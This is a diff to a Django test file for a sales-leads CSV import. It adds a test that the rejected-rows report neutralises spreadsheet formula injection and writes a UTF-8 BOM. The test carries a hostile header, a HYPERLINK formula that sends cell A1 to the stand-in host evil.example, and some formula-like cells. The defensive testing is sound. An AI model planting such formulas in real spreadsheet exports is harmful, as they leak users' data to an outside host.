@@ -105,10 +105,39 @@ def test_start_queues_the_task_and_the_run_records_outcome_and_rejected_rows(
     assert "Imported 2 rows" in progress.content.decode()
     assert "ICP: 1 needs review." in progress.content.decode()
     report = sales_client.get(reverse("leads:import_errors", args=[job.pk]))
-    rows = list(csv.reader(io.StringIO(b"".join(report.streaming_content).decode())))
+    rows = list(csv.reader(io.StringIO(b"".join(report.streaming_content).decode("utf-8-sig"))))
     assert rows[0] == ["row", "column", "problem"]
     assert ["3", "Email Address", "“not-an-email” is not an email address"] in rows
     assert ["3", "No. of employees", "“ten” is not a whole number"] in rows
+
+
+HOSTILE_HEADER = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+
+
+@pytest.mark.django_db
+def test_rejected_rows_report_escapes_a_hostile_header_and_cell(sales_client):
+    """The report echoes the uploaded headers and cells: a spreadsheet must not run them as formulas."""
+    content = f'Email Address,"{HOSTILE_HEADER.replace(chr(34), chr(34) * 2)}"\r\nann@example.com,ten\r\n'
+    job = ImportJobFactory(
+        file=SimpleUploadedFile("evil.csv", content.encode()),
+        original_name="evil.csv",
+        mapping={"Email Address": "email", HOSTILE_HEADER: "employees"},
+        status=ImportStatus.QUEUED,
+    )
+    import_job_run(job.pk)
+    job.row_errors.create(row=9, column="@SUM(A1:A9)", message="-2+3 was in the cell")
+
+    report = sales_client.get(reverse("leads:import_errors", args=[job.pk]))
+
+    body = b"".join(report.streaming_content)
+    assert body.startswith(b"\xef\xbb\xbf")  # a BOM, so Excel reads the curly quotes as UTF-8
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+    assert rows == [
+        ["row", "column", "problem"],
+        ["2", "'" + HOSTILE_HEADER, "“ten” is not a whole number"],
+        ["9", "'@SUM(A1:A9)", "'-2+3 was in the cell"],
+    ]
+    assert report["Content-Disposition"] == 'attachment; filename="evil-rejected-rows.csv"'
 
 
 @pytest.mark.django_db
